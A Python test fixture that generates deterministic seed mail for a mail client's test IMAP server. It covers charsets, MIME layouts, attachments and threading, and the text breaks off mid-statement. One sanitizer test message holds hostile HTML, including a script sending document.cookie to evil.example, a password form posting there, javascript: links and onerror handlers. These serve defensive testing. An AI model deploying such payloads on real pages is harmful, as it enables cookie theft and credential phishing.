#!/usr/bin/python3
# tests/env/seed_mail.py — deterministic seed mail for postern's private test Dovecot.
# Writes Maildir++ folders (files, dovecot-uidlist, subscriptions) directly; stdlib only.
r"""
Called by mailenv.sh before Dovecot starts. Same arguments -> byte-identical
messages, the same UIDs in the same order, the same UIDVALIDITYs, the same
INTERNALDATEs (file mtimes). Nothing depends on the clock, the host or chance.

What it makes (N = --messages, default 200, at least 43)

  user   folder          msgs  content
  -----  --------------  ----  -----------------------------------------------------
  alice  INBOX           N     UIDs 1..N-43, "bulk" (2024-01-02 .. 2024-06-07):
                               plain ASCII 40%, UTF-8 QP 15%, alternative 20%, HTML
                               with remote <img> 10%, small PDF/PNG attachment 10%,
                               ISO-8859-1 5%; every 12th is a reply to one of the
                               3 before it. Message i is the same whatever N is.
                               UIDs N-42..N, "core" (June 2024), CORE_CATALOG below:
                               plain ASCII | UTF-8 QP + Q subject | UTF-8 base64 +
                               B subject, emoji | ISO-8859-1 | ISO-8859-15 (euro) |
                               KOI8-R | Shift_JIS | windows-1252 | format=flowed with
                               quotes | flowed DelSp=yes | HTML, remote images +
                               tracking pixel | hostile HTML (script, on*, javascript:,
                               iframe, form, svg, data:, meta, base, CSS url) |
                               alternative | alternative + remote images | related
                               with cid: PNGs | PDF attachment | PNG attachment |
                               ~3 MB PNG attachment | RFC 2231 filenames (plain and
                               continued) | RFC 2047 filename | forwarded
                               message/rfc822 | folded long subject | no subject |
                               bare address, many recipients, Reply-To | no
                               Content-Type | raw 8bit UTF-8 | invalid UTF-8 bytes |
                               unknown charset | HTML table, inline styles | one
                               very long line | text/calendar | Date +0900 | thread
                               A (3 here + 1 in Sent) | thread B (5 here + 1 in
                               Sent) | List-Id | urgent \Flagged | mail from bob
  alice  Sent            6     alice's side of threads A and B, one attachment
  alice  Drafts          3     \Draft: a reply (thread A), one with attachment,
                               one without To
  alice  Trash           4     old notifications, \Seen
  alice  Archive         5     2023 mail, \Seen
  alice  Archive/2023    2     nested folder (hierarchy tests)
  alice  Junk            3     spam/phishing HTML, keyword $Junk, unread
  alice  Reçus           4     non-ASCII name ("Re&AOc-us" on disk and on the wire),
                               ISO-8859-1 and UTF-8 French receipts
  With --big-attachment BYTES (benchmarks; off by default): the newest bulk
  UID (N-43) becomes "bench-big-attachment" (2024-06-08, \Seen): a short text
  part and part 2, BYTES of deterministic random data as base64
  application/octet-stream "bench-big.bin". N stays the INBOX's total.
  bob    INBOX           5     welcome, from alice, HTML, PDF attachment, UTF-8
  sink   INBOX           0     Postfix delivers here what is submitted to domains
                               other than postern.test

Flags in alice's INBOX: bulk messages are \Seen except ~35% of the newest 10%
and ~8% of the older ones; ~5% \Flagged, ~8% \Answered. Core messages have the
flags written in CORE_CATALOG (S seen, F flagged, R answered, D draft) and
$Forwarded on the forwarded one. All folders are subscribed (INBOX too).
Folder names above use "/"; the IMAP names depend on the flavor (--separator,
--prefix), the files on disk do not (Maildir++: .Archive.2023, .Re&AOc-us).

Every message carries "X-Postern-Seed: <seed id>" (core-big-attachment,
bulk-00042, ...) and the Message-ID "<seed id@seed.postern.test>", so tests can
find it with SEARCH HEADER. --manifest writes a JSON list of every message
(user, folder, IMAP folder, uid, uidvalidity, flags, keywords, subject, from,
dates, RFC822.SIZE, tags); --env writes SEED_* KEY=value lines for env.sh.
"""

import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import random
import shlex
import struct
import sys
import zlib
from email import base64mime, quoprimime, utils
from email import message_from_bytes
from email.header import decode_header, make_header
import quopri

DOMAIN = "postern.test"
SEED_DOMAIN = "seed.postern.test"
UTC = dt.timezone.utc

# Fixed time line. Bulk mail spreads over BULK_START..BULK_END whatever N is;
# the core messages live in June 2024, after all bulk mail.
BULK_START = dt.datetime(2024, 1, 2, 7, 30, tzinfo=UTC)
BULK_END = dt.datetime(2024, 6, 7, 18, 0, tzinfo=UTC)
CORE_START = dt.datetime(2024, 6, 10, 8, 0, tzinfo=UTC)

# Base for UIDVALIDITY values (2024-01-01); one value per mailbox, in order.
UIDVALIDITY_BASE = 1704067200

ALICE = ("Alice Liddell", "alice@" + DOMAIN)
BOB = ("Bob Martin", "bob@" + DOMAIN)


# --------------------------------------------------------------------------
# Small MIME toolkit. The email package does the encodings (base64mime,
# quoprimime, utils); structure and header bytes are written here so that the
# output is exact and stable (no random boundaries, no re-encoding of headers
# into UTF-8, no clock).
# --------------------------------------------------------------------------

def encoded_words(text, charset="utf-8", enc="b"):
    """RFC 2047 encoded words for text, each at most 75 chars, split on
    character boundaries, joined by folding white space."""
    if all(32 <= ord(c) < 127 for c in text):
        return text
    words, chunk = [], ""

    def word(s):
        raw = s.encode(charset)
        if enc == "b":
            return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
        return quoprimime.header_encode(raw, charset)

    for ch in text:
        if chunk and len(word(chunk + ch)) > 75:
            words.append(word(chunk))
            chunk = ""
        chunk += ch
    if chunk:
        words.append(word(chunk))
    return "\n ".join(words)


def mailbox(name, addr, charset="utf-8", enc="b"):
    """A From/To mailbox, the display name encoded when it is not ASCII."""
    if not name:
        return addr
    if all(32 <= ord(c) < 127 for c in name):
        return utils.formataddr((name, addr))
    return "%s <%s>" % (encoded_words(name, charset, enc), addr)


def rfc_date(when):
    return utils.format_datetime(when)


def fold(value, width=76):
    """Fold an ASCII unstructured header value at spaces (RFC 5322 2.2.3)."""
    if len(value) <= width or "\n" in value:
        return value
    lines, line = [], ""
    for w in value.split(" "):
        if line and len(line) + 1 + len(w) > width:
            lines.append(line)
            line = w
        else:
            line = (line + " " + w) if line else w
    lines.append(line)
    return "\n ".join(lines)


TSPECIALS = set('()<>@,;:\\"/[]?= ')


def param_value(key, value):
    """A Content-Type parameter value: as is when already quoted, an RFC 2231
    extended value or a token; quoted otherwise."""
    if value.startswith('"') or "*" in key:
        return value
    if value and not any(c in TSPECIALS or ord(c) < 33 or ord(c) > 126 for c in value):
        return value
    return '"%s"' % value.replace("\\", "\\\\").replace('"', '\\"')


class Part:
    """One MIME entity: either a leaf (body bytes already transfer-encoded) or
    a multipart with children."""

    def __init__(self, ctype, params=(), headers=(), body=b"", parts=None):
        self.ctype = ctype
        self.params = list(params)
        self.headers = list(headers)
        self.body = body
        self.parts = parts

    def render(self, tag, path="1"):
        """tag makes boundaries unique per message (a message/rfc822 part
        nests another message whose boundaries must differ)."""
        out = []
        ct = self.ctype
        params = list(self.params)
        if self.parts is not None:
            params.append(("boundary", "=_%s_%s" % (tag, path.replace(".", "_"))))
        for k, v in params:
            ct += ";\n %s=%s" % (k, param_value(k, v))
        out.append("Content-Type: " + ct)
        out.extend("%s: %s" % h for h in self.headers)
        head = ("\n".join(out) + "\n\n").encode("ascii")
        if self.parts is None:
            return head + self.body
        boundary = ("=_%s_%s" % (tag, path.replace(".", "_"))).encode()
        chunks = [head, b"This is a multi-part message in MIME format.\n"]
        for i, p in enumerate(self.parts, 1):
            chunks.append(b"\n--" + boundary + b"\n")
            chunks.append(p.render(tag, "%s.%d" % (path, i)))
        chunks.append(b"\n--" + boundary + b"--\n")
        return b"".join(chunks)


def transfer_encode(data, cte):
    if cte == "base64":
        return base64mime.body_encode(data, 76, "\n").encode("ascii")
    if cte == "quoted-printable":
        return quopri.encodestring(data)
    if not data.endswith(b"\n"):
        data += b"\n"
    return data


def text(body, subtype="plain", charset="utf-8", cte=None, extra=(), headers=()):
    raw = body.encode(charset)
    if cte is None:
        cte = "7bit" if raw.isascii() else "quoted-printable"
    params = [("charset", charset)] + list(extra)
    return Part("text/" + subtype, params,
                [("Content-Transfer-Encoding", cte)] + list(headers),
                transfer_encode(raw, cte))


def attachment(ctype, data, filename, disposition="attachment", cid=None,
               name_param=True, raw_disposition=None):
    """A base64 leaf. filename ASCII -> plain parameter; otherwise RFC 2231
    (filename*=utf-8''...) unless raw_disposition gives the exact header."""
    headers = [("Content-Transfer-Encoding", "base64")]
    params = []
    if raw_disposition:
        headers.append(("Content-Disposition", raw_disposition))
    elif filename is not None:
        if filename.isascii():
            headers.append(("Content-Disposition",
                            '%s; filename="%s"' % (disposition, filename)))
            if name_param:
                params.append(("name", filename))
        else:
            headers.append(("Content-Disposition", "%s;\n filename*=%s" % (
                disposition, utils.encode_rfc2231(filename, "utf-8"))))
    elif disposition:
        headers.append(("Content-Disposition", disposition))
    if cid:
        headers.append(("Content-ID", "<%s>" % cid))
    return Part(ctype, params, headers, transfer_encode(data, "base64"))


def multipart(subtype, *parts, params=()):
    return Part("multipart/" + subtype, params, parts=list(parts))


def message(seed_id, subject, sender, to, when, body, cc=None, reply_to=None,
            in_reply_to=None, references=None, extra=(), subject_raw=None,
            message_id=None):
    """The full RFC 5322 message as bytes (LF line ends, as Maildir keeps them)."""
    mid = message_id or "<%s@%s>" % (seed_id, SEED_DOMAIN)
    h = [("Return-Path", "<%s>" % sender_addr(sender)),
         ("Date", rfc_date(when)),
         ("From", sender if isinstance(sender, str) else mailbox(*sender)),
         ("To", to if isinstance(to, str) else ", ".join(mailbox(*a) for a in to))]
    if cc:
        h.append(("Cc", cc if isinstance(cc, str) else
                  ",\n ".join(mailbox(*a) for a in cc)))
    if reply_to:
        h.append(("Reply-To", reply_to))
    if subject is not None or subject_raw is not None:
        h.append(("Subject", subject_raw if subject_raw is not None
                  else fold(encoded_words(subject))))
    h.append(("Message-ID", mid))
    if in_reply_to:
        h.append(("In-Reply-To", in_reply_to))
    if references:
        h.append(("References", "\n ".join(references)))
    h.append(("X-Postern-Seed", seed_id))
    h.extend(extra)
    h.append(("MIME-Version", "1.0"))
    head = "".join("%s: %s\n" % kv for kv in h).encode("ascii")
    if body is None:  # header-only oddity: no Content-Type at all
        return head + b"\n"
    return head + body.render(seed_id)


def sender_addr(sender):
    if isinstance(sender, str):
        return sender[sender.find("<") + 1:sender.rfind(">")] if "<" in sender else sender
    return sender[1]


def mid(seed_id):
    return "<%s@%s>" % (seed_id, SEED_DOMAIN)


# --------------------------------------------------------------------------
# Binary payloads, generated (no files in the repo).
# --------------------------------------------------------------------------

def png(width, height, pixel):
    """A valid truecolour PNG; pixel(x, y) -> (r, g, b)."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            rows.extend(pixel(x, y))

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(bytes(rows), 6)) + chunk(b"IEND", b""))


def noise_png(width, height, seed):
    """Incompressible PNG (several MB for a large attachment), fast to make."""
    data = random.Random(seed).randbytes(width * height * 3)
    rows = b"".join(b"\x00" + data[y * width * 3:(y + 1) * width * 3]
                    for y in range(height))

    def chunk(kind, d):
        return (struct.pack(">I", len(d)) + kind + d +
                struct.pack(">I", zlib.crc32(kind + d) & 0xFFFFFFFF))

    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows, 1)) + chunk(b"IEND", b""))


def pdf(title):
    """A small well-formed one-page PDF showing title."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        None,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    safe = title.encode("latin-1", "replace").replace(b"\\", b"\\\\") \
        .replace(b"(", b"\\(").replace(b")", b"\\)")
    stream = b"BT /F1 18 Tf 72 760 Td (" + safe + b") Tj ET"
    objs[3] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, xref)
    return bytes(out)


LOGO_PNG = png(32, 32, lambda x, y: (40 + x * 6, 90 + y * 4, 200 - x * 3))
DOT_PNG = png(8, 8, lambda x, y: (200, 30, 30) if (x + y) % 2 else (250, 250, 250))


# --------------------------------------------------------------------------
# Text helpers
# --------------------------------------------------------------------------

WORDS = ("the quarterly budget review needs one more pass before Friday and "
         "we should align the release plan with the support calendar while the "
         "server migration keeps moving forward so please send comments on the "
         "draft agenda together with any open questions about invoices travel "
         "expenses hiring and the new office layout").split()

ACCENTED = ("déjà vu café naïve façade résumé coöperate über straße smörgåsbord "
            "jalapeño crème brûlée piñata Ærøskøbing Łódź Kraków São Paulo").split()


def sentences(rng, n, words=WORDS):
    out = []
    for _ in range(n):
        k = rng.randint(6, 14)
        s = " ".join(rng.choice(words) for _ in range(k))
        out.append(s[0].upper() + s[1:] + ".")
    return " ".join(out)


def wrap(text_, width=72):
    lines, line = [], ""
    for w in text_.split():
        if line and len(line) + 1 + len(w) > width:
            lines.append(line)
            line = w
        else:
            line = (line + " " + w) if line else w
    if line:
        lines.append(line)
    return "\n".join(lines)


def flowed(paragraphs, width=66):
    """format=flowed (RFC 3676): soft breaks end with a space."""
    out = []
    for p in paragraphs:
        quote = ""
        while p.startswith(">"):
            quote += ">"
            p = p[1:]
        p = p.strip()
        prefix = quote + (" " if quote else "")
        lines, line = [], ""
        for w in p.split():
            if line and len(line) + 1 + len(w) > width:
                lines.append(prefix + line + " ")
                line = w
            else:
                line = (line + " " + w) if line else w
        lines.append(prefix + line)
        out.extend(lines)
        out.append(quote)
    return "\n".join(out).rstrip() + "\n"


def html_doc(body_html, title="", style=""):
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"
            "<title>%s</title>%s</head>\n<body>\n%s\n</body></html>\n"
            % (title, "<style>%s</style>" % style if style else "", body_html))


# --------------------------------------------------------------------------
# People
# --------------------------------------------------------------------------

CAROL = ("Carol Chen", "carol@example.com")
DAVE = ("Dave Okafor", "dave@example.org")
ELODIE = ("Élodie Brûlé", "elodie@exemple.fr")
FRANCOIS = ("François Dupont", "francois@exemple.fr")
YURI = ("Юрий Гагарин", "yuri@example.ru")
TARO = ("山田太郎", "taro@example.jp")
HEINZ = ("Heinz Müller", "heinz@beispiel.de")
GRACE = ("Grace Hopper", "grace@navy.example")
MALLORY = ("Mallory", "mallory@evil.example")
NEWS = ("Shop Weekly", "news@shop.example")
GIT = ("Forge Notifications", "noreply@forge.example")

BULK_SENDERS = [CAROL, DAVE, ELODIE, GRACE, HEINZ, NEWS, GIT, BOB,
                ("Priya Raman", "priya@example.in"), ("Oleg Petrov", "oleg@example.ru"),
                ("Zoë Faulkner", "zoe@example.co.uk"), ("Kenji Sato", "kenji@example.jp"),
                ("Ana Souza", "ana@example.com.br"), ("Sam Taylor", "sam@example.net")]

TOPICS = ["budget review", "release plan", "server migration", "team offsite",
          "invoice", "travel expenses", "hiring update", "office layout",
          "security audit", "customer feedback", "roadmap", "on-call rota",
          "newsletter", "backup report", "conference talk", "lunch order"]


# --------------------------------------------------------------------------
# Core INBOX catalog: (seed id, tags, flags, builder(when) -> bytes)
# Flags are Maildir letters: S seen, F flagged, R answered, D draft;
# keywords listed separately.
# --------------------------------------------------------------------------

THREAD_A = ["core-thread-a1", "sent-thread-a2", "core-thread-a3", "core-thread-a4"]
THREAD_B = ["core-thread-b1", "core-thread-b2", "sent-thread-b3", "core-thread-b4",
            "core-thread-b5", "core-thread-b6"]


def refs(chain, upto):
    """References list for the message at index upto of a thread chain."""
    return [mid(s) for s in chain[:upto]]


def core_catalog():
    C = []

    def add(seed_id, tags, flags, build, keywords=()):
        C.append((seed_id, tags, flags, build, keywords))

    add("core-plain-ascii", ["plain", "ascii"], "S", lambda w: message(
        "core-plain-ascii", "Lunch on Thursday?", CAROL, [ALICE], w,
        text("Hi Alice,\n\nAre you free for lunch on Thursday at 12:30?\n"
             "The usual place.\n\nCarol\n")))

    add("core-utf8-qp", ["plain", "utf-8", "quoted-printable", "encoded-word-q"], "S",
        lambda w: message(
            "core-utf8-qp", "Réunion à 15 h — café crème ☕", (ELODIE[0], ELODIE[1]),
            [ALICE], w,
            text("Bonjour Alice,\n\nLa réunion est déplacée à 15 h, salle « Été ».\n"
                 "Apporte les croissants ; je m’occupe du café.\n\nÀ tout à l’heure,\n"
                 "Élodie\n", cte="quoted-printable"),
            subject_raw=encoded_words("Réunion à 15 h — café crème ☕", "utf-8", "q")))

    add("core-utf8-b64", ["plain", "utf-8", "base64", "encoded-word-b", "emoji"], "",
        lambda w: message(
            "core-utf8-b64", "Grüße aus Zürich 🏔️ und ein Foto", HEINZ, [ALICE], w,
            text("Hallo Alice,\n\nviele Grüße aus Zürich! Das Wetter ist großartig.\n"
                 "Ein Foto schicke ich später. 🏔️🚠\n\nHeinz\n", cte="base64")))

    add("core-latin1", ["plain", "iso-8859-1", "encoded-word-q"], "S", lambda w: message(
        "core-latin1", None, mailbox(*FRANCOIS, charset="iso-8859-1", enc="q"), [ALICE], w,
        text("Chère Alice,\n\nVoici le résumé de la réunion de jeudi : le budget\n"
             "est approuvé, l'équipe déménage au 3e étage en août.\n\nFrançois\n",
             charset="iso-8859-1", cte="quoted-printable"),
        subject_raw=encoded_words("Résumé de la réunion, déménagement", "iso-8859-1", "q")))

    add("core-latin9", ["plain", "iso-8859-15", "euro"], "S", lambda w: message(
        "core-latin9", None, mailbox(*HEINZ, charset="iso-8859-15", enc="q"), [ALICE], w,
        text("Hallo Alice,\n\nanbei die Rechnung über 150 € für das Catering.\n"
             "Bitte bis Ende des Monats überweisen.\n\nGrüße, Heinz\n",
             charset="iso-8859-15", cte="8bit"),
        subject_raw=encoded_words("Rechnung über 150 €", "iso-8859-15", "q")))

    add("core-koi8r", ["plain", "koi8-r", "base64", "encoded-word-b"], "", lambda w: message(
        "core-koi8r", None, mailbox(*YURI, charset="koi8-r", enc="b"), [ALICE], w,
        text("Здравствуйте, Алиса!\n\nПоехали! Встреча в понедельник в 10:00.\n"
             "Пожалуйста, подтвердите участие.\n\nЮрий\n", charset="koi8-r", cte="base64"),
        subject_raw=encoded_words("Встреча в понедельник", "koi8-r", "b")))

    add("core-shift-jis", ["plain", "shift_jis", "base64", "encoded-word-b"], "S",
        lambda w: message(
            "core-shift-jis", None, mailbox(*TARO, charset="shift_jis", enc="b"), [ALICE], w,
            text("アリスさん\n\nこんにちは。来週の会議の資料を送ります。\n"
                 "よろしくお願いします。\n\n山田\n", charset="shift_jis", cte="base64"),
            subject_raw=encoded_words("会議の資料について", "shift_jis", "b")))

    add("core-windows-1252", ["plain", "windows-1252", "smart-quotes"], "S",
        lambda w: message(
            "core-windows-1252", "Smart “quotes” – and dashes…", GRACE, [ALICE], w,
            text("Alice,\n\n“It’s easier to ask forgiveness than it is to get "
                 "permission.”\n– Grace\n", charset="windows-1252",
                 cte="quoted-printable"),
            subject_raw=encoded_words("Smart “quotes” – and dashes…", "windows-1252", "q")))

    add("core-flowed", ["plain", "format=flowed", "quoted-reply"], "S", lambda w: message(
        "core-flowed", "Re: Notes from the planning session", DAVE, [ALICE], w,
        text(flowed([
            "Hi Alice, thanks for the notes. I read them twice and I think the "
            "plan holds together, with two small caveats that I describe below "
            "so we can settle them before the next meeting.",
            ">On Monday you wrote: the migration window is Saturday night, "
            "starting at 22:00 and ending no later than 04:00 on Sunday morning.",
            ">>Carol asked whether the backup job can be moved earlier so "
            "that it does not overlap with the migration window at all.",
            "Yes, the window is fine. The backup job moves to 20:00; I have "
            "already changed the schedule on the server.",
        ]), extra=[("format", "flowed")], cte="8bit"),
        in_reply_to=mid("ext-planning"), references=[mid("ext-planning")]))

    add("core-flowed-delsp", ["plain", "format=flowed", "delsp=yes"], "", lambda w: message(
        "core-flowed-delsp", "Long lines, flowed with delsp", GRACE, [ALICE], w,
        text("This paragraph is sent as format=flowed with DelSp=yes, so the space \n"
             "before each soft line break is deleted when the lines are joined: \n"
             "supercalifragilistic\nexpialidocious must read as one word on screen.\n\n"
             "-- \nGrace\n",
             extra=[("format", "flowed"), ("delsp", "yes")], cte="7bit")))

    add("core-html-remote-img", ["html", "remote-images", "tracking-pixel"], "",
        lambda w: message(
            "core-html-remote-img", "Your June newsletter", NEWS, [ALICE], w,
            text(html_doc(
                "<h1 style=\"color:#204080\">June deals</h1>\n"
                "<p>Hello Alice, here are this month's offers.</p>\n"
                "<p><img src=\"http://images.shop.example/banner-june.png\" "
                "alt=\"Banner\" width=\"600\" height=\"200\"></p>\n"
                "<p><a href=\"https://shop.example/deals?utm=mail\">See all deals</a></p>\n"
                "<img src=\"http://track.shop.example/open.gif?u=alice\" width=\"1\" "
                "height=\"1\" alt=\"\">", "Newsletter"), "html", cte="quoted-printable")))

    add("core-html-hostile", ["html", "hostile", "sanitizer"], "S", lambda w: message(
        "core-html-hostile", "Totally harmless HTML", MALLORY, [ALICE], w,
        text(html_doc(
            "<p onclick=\"alert(1)\">Click <a href=\"javascript:alert(2)\">here</a>.</p>\n"
            "<script>document.location='http://evil.example/?c='+document.cookie</script>\n"
            "<iframe src=\"http://evil.example/frame\"></iframe>\n"
            "<form action=\"http://evil.example/login\"><input name=\"password\"></form>\n"
            "<img src=x onerror=\"alert(3)\">\n"
            "<svg><script>alert(4)</script></svg>\n"
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==\">data</a>\n"
            "<div style=\"background:url(http://evil.example/bg.png);"
            "position:fixed;top:0\">overlay</div>\n"
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">\n"
            "<base href=\"http://evil.example/\">\n"
            "<p style=\"color:red;font-weight:bold\">Red text stays.</p>",
            "x", "body{background:url(http://evil.example/css.png)}"),
            "html", cte="quoted-printable")))

    add("core-alternative", ["multipart/alternative", "html"], "S", lambda w: message(
        "core-alternative", "Agenda for the all-hands", GRACE, [ALICE, BOB], w,
        multipart("alternative",
                  text("Agenda\n\n1. Welcome\n2. Numbers for Q2\n3. Questions\n\n"
                       "Grace\n"),
                  text(html_doc("<h2>Agenda</h2><ol><li>Welcome</li>"
                                "<li>Numbers for <b>Q2</b></li><li>Questions</li></ol>"
                                "<p>Grace</p>"), "html", cte="quoted-printable")),
        cc=[DAVE, CAROL]))

    add("core-alternative-remote", ["multipart/alternative", "html", "remote-images"], "",
        lambda w: message(
            "core-alternative-remote", "Your order has shipped", NEWS, [ALICE], w,
            multipart("alternative",
                      text("Your order 4711 has shipped. Track it at "
                           "https://shop.example/track/4711\n"),
                      text(html_doc(
                          "<p>Your order <b>4711</b> has shipped.</p>"
                          "<p><img src=\"https://images.shop.example/parcel.png\" "
                          "alt=\"parcel\"></p><p><a href=\"https://shop.example/track/4711\">"
                          "Track it</a></p>"), "html", cte="quoted-printable"))))

    add("core-related-cid", ["multipart/alternative", "multipart/related", "cid",
                             "inline-image"], "SF", lambda w: message(
        "core-related-cid", "Our new logo", CAROL, [ALICE], w,
        multipart("alternative",
                  text("Here is the new logo (see the HTML version).\n"),
                  multipart("related",
                            text(html_doc("<p>Here is the new logo:</p>"
                                          "<p><img src=\"cid:logo-2024@seed.postern.test\" "
                                          "alt=\"logo\" width=\"32\" height=\"32\"></p>"
                                          "<p>and a small pattern: "
                                          "<img src=\"cid:dot@seed.postern.test\"></p>"),
                                 "html", cte="quoted-printable"),
                            attachment("image/png", LOGO_PNG, "logo.png", "inline",
                                       cid="logo-2024@seed.postern.test"),
                            attachment("image/png", DOT_PNG, None, "inline",
                                       cid="dot@seed.postern.test"),
                            params=[("type", "text/html")]))))

    add("core-pdf-attachment", ["multipart/mixed", "attachment", "pdf"], "S",
        lambda w: message(
            "core-pdf-attachment", "Invoice INV-2024-0612", DAVE, [ALICE], w,
            multipart("mixed",
                      text("Hello Alice,\n\nplease find the invoice attached.\n\nDave\n"),
                      attachment("application/pdf", pdf("Invoice INV-2024-0612"),
                                 "INV-2024-0612.pdf"))))

    add("core-png-attachment", ["multipart/mixed", "attachment", "image"], "S",
        lambda w: message(
            "core-png-attachment", "Screenshot of the bug", CAROL, [ALICE], w,
            multipart("mixed",
                      text("The button is drawn twice, see the screenshot.\n"),
                      attachment("image/png", png(64, 48, lambda x, y: (
                          255 if 10 < x < 50 and 10 < y < 20 else 230,
                          230, 120 if 10 < x < 50 and 25 < y < 35 else 230)),
                          "screenshot.png"))))

    add("core-big-attachment", ["multipart/mixed", "attachment", "image", "large"], "",
        lambda w: message(
            "core-big-attachment", "Holiday photo (large)", GRACE, [ALICE], w,
            multipart("mixed",
                      text("The full-resolution photo, about 3 MB.\n"),
                      attachment("image/png", BIG_PNG(), "holiday-photo.png"))))

    add("core-rfc2231-filename", ["multipart/mixed", "attachment", "rfc2231",
                                  "non-ascii-filename"], "S", lambda w: message(
        "core-rfc2231-filename", "Résumé attached", ELODIE, [ALICE], w,
        multipart("mixed",
                  text("Voici mon CV.\n", cte="7bit"),
                  attachment("application/pdf", pdf("Resume Elodie"),
                             "Résumé Élodie – été 2024.pdf"),
                  attachment("application/pdf", pdf("Kontoauszug"), None,
                             raw_disposition=(
                                 "attachment;\n"
                                 " filename*0*=utf-8''%C3%9Cberweisungsbest%C3%A4tigung%20f;\n"
                                 " filename*1*=%C3%BCr%20das%20Jahr%202024%20%E2%80%93%20;\n"
                                 " filename*2=\"Kontoauszug Nr. 42.pdf\"")))))

    add("core-rfc2047-filename", ["multipart/mixed", "attachment", "rfc2047-filename",
                                  "non-ascii-filename"], "S", lambda w: message(
        "core-rfc2047-filename", "Отчёт за май", YURI, [ALICE], w,
        multipart("mixed",
                  text("Отчёт во вложении.\n", cte="base64"),
                  Part("application/pdf",
                       [("name", '"%s"' % encoded_words("Отчёт_май.pdf", "utf-8", "b"))],
                       [("Content-Transfer-Encoding", "base64"),
                        ("Content-Disposition", 'attachment;\n filename="%s"'
                         % encoded_words("Отчёт_май.pdf", "utf-8", "b"))],
                       transfer_encode(pdf("Report May"), "base64")))))

    add("core-forwarded-rfc822", ["multipart/mixed", "message/rfc822", "forward"], "S",
        lambda w: message(
            "core-forwarded-rfc822", "Fwd: Contract draft", DAVE, [ALICE], w,
            multipart("mixed",
                      text("Forwarding the draft from legal, see the attached message.\n"),
                      Part("message/rfc822", [], [("Content-Disposition", "inline")],
                           message("core-forwarded-inner", "Contract draft",
                                   ("Legal Team", "legal@example.org"), [DAVE],
                                   w - dt.timedelta(days=2),
                                   multipart("mixed",
                                             text("Draft attached, comments by Friday.\n"),
                                             attachment("application/pdf",
                                                        pdf("Contract draft"),
                                                        "contract-draft.pdf")))))),
        keywords=("$Forwarded",))

    add("core-long-subject", ["long-subject", "folded-header"], "S", lambda w: message(
        "core-long-subject",
        "This is a deliberately very long subject line that keeps going well past "
        "the seventy-eight character limit so that it must be folded over several "
        "header lines by any conforming mail generator, and then some more",
        GIT, [ALICE], w, text("Long subject test.\n")))

    add("core-no-subject", ["no-subject"], "", lambda w: message(
        "core-no-subject", None, CAROL, [ALICE], w, text("(no subject on purpose)\n")))

    add("core-bare-address", ["no-display-name", "many-recipients", "reply-to"], "S",
        lambda w: message(
            "core-bare-address", "Team list: many recipients", "teamlead@example.com",
            [ALICE, BOB, CAROL, DAVE, ELODIE, GRACE], w,
            text("Everybody, please update your timesheets.\n"),
            cc="undisclosed-recipients:;", reply_to="team@example.com"))

    add("core-no-content-type", ["no-content-type", "us-ascii-default"], "S",
        lambda w: message("core-no-content-type", "Message without MIME headers",
                          "legacy@old.example", [ALICE], w, None)
        + b"Plain old RFC 822 body, no Content-Type header at all.\n")

    add("core-8bit-utf8", ["plain", "utf-8", "8bit"], "S", lambda w: message(
        "core-8bit-utf8", "8bit body: ünïcödé without encoding", ELODIE, [ALICE], w,
        text("Ce message est en UTF-8 brut (8bit) : œuvre, ça, naïveté, Ελληνικά, "
             "中文, العربية.\n", cte="8bit")))

    add("core-invalid-utf8", ["plain", "utf-8", "invalid-bytes"], "", lambda w: message(
        "core-invalid-utf8", "Broken bytes inside", MALLORY, [ALICE], w,
        Part("text/plain", [("charset", "utf-8")], [("Content-Transfer-Encoding", "8bit")],
             b"Valid start, then invalid bytes: \xff\xfe\xc3( and a lone \x80.\n"
             b"Undeclared latin-1: caf\xe9.\n")))

    add("core-unknown-charset", ["plain", "unknown-charset"], "S", lambda w: message(
        "core-unknown-charset", "Unknown charset label", MALLORY, [ALICE], w,
        Part("text/plain", [("charset", "x-postern-unknown")],
             [("Content-Transfer-Encoding", "8bit")],
             b"This claims an unknown charset; bytes: \xe4\xf6\xfc.\n")))

    add("core-html-table", ["html", "utf-8", "inline-style", "table"], "S",
        lambda w: message(
            "core-html-table", "Quarterly numbers", GRACE, [ALICE], w,
            text(html_doc(
                "<table style=\"border-collapse:collapse\" border=\"1\">"
                "<tr><th>Quarter</th><th>Revenue (€)</th></tr>"
                "<tr><td>Q1</td><td style=\"text-align:right\">1 234 567</td></tr>"
                "<tr><td>Q2</td><td style=\"text-align:right\">2 345 678</td></tr>"
                "</table><p style=\"font-family:serif\">— Grace</p>"),
                "html", cte="base64")))

    add("core-long-line", ["plain", "long-line"], "S", lambda w: message(
        "core-long-line", "One very long line", GIT, [ALICE], w,
        text("x" * 20 + " " + " ".join("token%04d" % i for i in range(300)) + "\n",
             cte="7bit")))

    add("core-calendar", ["multipart/alternative", "text/calendar"], "", lambda w: message(
